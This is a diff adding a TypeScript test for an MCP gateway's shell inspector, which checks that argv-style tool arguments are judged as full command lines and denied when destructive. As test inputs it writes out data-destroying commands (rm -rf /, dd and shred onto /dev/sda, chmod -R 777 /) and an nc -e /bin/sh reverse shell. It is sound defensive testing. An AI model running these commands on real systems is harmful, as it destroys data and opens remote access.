@@ -8,6 +8,7 @@ import type { Tool } from '@modelcontextprotocol/sdk/types.js';
 import { argumentRoles, argumentsError, closeSchema, inspectionRequests, rebaseFindings, validateArguments, withJustification, JUSTIFICATION_MAX_CHARS } from '../../../gateway/mcp/arguments.ts';
 import { META_TOOLS } from '../../../gateway/mcp/search.ts';
 import { initInspectors, inspectRequest } from '../../../gateway/inspect/index.ts';
+import { defaultDecision } from '../../support/default-pack.ts';
 
 const tool = (inputSchema: Record<string, unknown>, name = 'create_issue', description = 'Create an issue in a project.'): Tool => ({ name, description, inputSchema: { type: 'object', ...inputSchema } });
 
@@ -169,4 +170,60 @@ test('inspection requests feed the real inspectors, and findings come back under
   assert.ok(pipe, JSON.stringify(findings));
   assert.equal(pipe.path, '$.command');
   assert.deepEqual(rebaseFindings([{ kind: 'pii.EMAIL_ADDRESS', path: '$.a[0]', severity: 'medium', detail: 'email' }], '$.steps[1]').map((f) => f.path), ['$.steps[1].a[0]']);
+});
+
+test('argv-form arguments: a program next to an args array is judged as argv, word for word, by the real shell inspector', async () => {
+  await initInspectors();
+  const run = tool({
+    properties: { command: { type: 'string' }, args: { type: 'array', items: { type: 'string' } }, cwd: { type: 'string' } },
+  }, 'run_process', 'Starts a process.');
+  const judge = (t: Tool, args: Record<string, unknown>) => {
+    const findings = inspectionRequests(t, argumentRoles(t, args)).flatMap((r) => rebaseFindings(inspectRequest(r.request), r.path));
+    return { findings, decision: defaultDecision(findings, 'shell') };
+  };
+
+  // The roles: the object itself carries the argv, beside the command string's own shell role.
+  const roles = argumentRoles(run, { command: 'rm', args: ['-rf', '/'] });
+  assert.deepEqual(roles[0], { path: '$', role: 'shell', value: 'rm', argv: ['rm', '-rf', '/'] });
+  const requests = inspectionRequests(run, roles);
+  assert.deepEqual(requests[0]!.request.argv, ['rm', '-rf', '/']);
+
+  // Judged as rm -rf / (before, only the text "rm" was inspected, and it passed).
+  const rm = judge(run, { command: 'rm', args: ['-rf', '/'] });
+  assert.equal(rm.decision, 'deny');
+  const destructive = rm.findings.find((f) => f.kind === 'shell.destructive');
+  assert.equal(destructive?.detail, 'rm -rf on /');
+  assert.equal(destructive?.path, '$');
+
+  // Words are never re-split or expanded: "build dir" is one directory, "$HOME" five characters (no shell runs).
+  assert.equal(judge(run, { command: 'rm', args: ['-rf', 'build dir'] }).decision, 'allow');
+  assert.equal(judge(run, { command: 'rm', args: ['-rf', '$HOME'] }).decision, 'allow');
+  assert.equal(judge(run, { command: 'rm', args: ['-rf', '/etc /usr'] }).decision, 'allow', 'one word (a directory "etc " at the top, holding usr), not the two paths /etc and /usr');
+  // A nested shell is parsed; wrappers and interpreters unwrap as on a command line.
+  assert.equal(judge(run, { command: 'bash', args: ['-c', 'rm -rf ~'] }).decision, 'deny');
+  assert.equal(judge(run, { command: 'sudo', args: ['rm', '-rf', '/etc'] }).decision, 'deny');
+  assert.ok(judge(run, { command: 'nc', args: ['-e', '/bin/sh', '10.0.0.1', '4444'] }).findings.some((f) => f.kind === 'shell.reverse_shell'));
+  assert.equal(judge(run, { command: 'ls', args: ['-la', '/var/log'] }).decision, 'allow');
+  // A program name with shell syntax is also judged as the text a shell would run.
+  assert.equal(judge(run, { command: 'rm -rf /', args: [] }).decision, 'deny');
+
+  // Other spellings: program + argv, executable + arguments, cmd + commandArgs; numbers become words.
+  const prog = tool({ properties: { program: { type: 'string' }, argv: { type: 'array', items: { type: 'string' } } } }, 'spawn');
+  assert.equal(judge(prog, { program: 'chmod', argv: ['-R', '777', '/'] }).decision, 'deny');
+  const exe = tool({ properties: { executable: { type: 'string' }, arguments: { type: 'array', items: {} } } }, 'spawn');
+  assert.equal(judge(exe, { executable: 'dd', arguments: ['if=/dev/zero', 'of=/dev/sda', 'bs=1M'] }).decision, 'deny');
+  const nested = tool({ properties: { steps: { type: 'array', items: { type: 'object', properties: { cmd: { type: 'string' }, commandArgs: { type: 'array', items: { type: 'string' } } } } } } }, 'pipeline');
+  const steps = judge(nested, { steps: [{ cmd: 'ls', commandArgs: [] }, { cmd: 'shred', commandArgs: ['-n', 3, '/dev/sda'] }] });
+  assert.equal(steps.decision, 'deny');
+  assert.equal(steps.findings.find((f) => f.kind === 'shell.disk_destruction')?.path, '$.steps[1]');
+
+  // Elements that are not strings are words of their JSON text; a long list is refused by the inspector's limit, never skipped.
+  assert.deepEqual(argumentRoles(run, { command: 'rm', args: [{ flag: '-rf' }, null, 3] }).find((r) => r.argv)?.argv, ['rm', '{"flag":"-rf"}', 'null', '3']);
+  const long = judge(run, { command: 'rm', args: [...Array.from({ length: 20_000 }, () => 'x'), '-rf', '/'] });
+  assert.deepEqual(long.findings.filter((f) => f.kind === 'inspect.limit').map((f) => f.detail), ['the argv is 40008 characters long; the limit is 32768, so it was not inspected']);
+  assert.equal(long.decision, 'deny');
+  // Not argv: no args array, or an array beside a name that is not a program.
+  assert.equal(argumentRoles(run, { command: 'ls' }).some((r) => r.argv), false);
+  const notes = tool({ properties: { title: { type: 'string' }, args: { type: 'array', items: { type: 'string' } } } }, 'create_note');
+  assert.equal(argumentRoles(notes, { title: 'rm', args: ['-rf', '/'] }).some((r) => r.argv), false);
 });
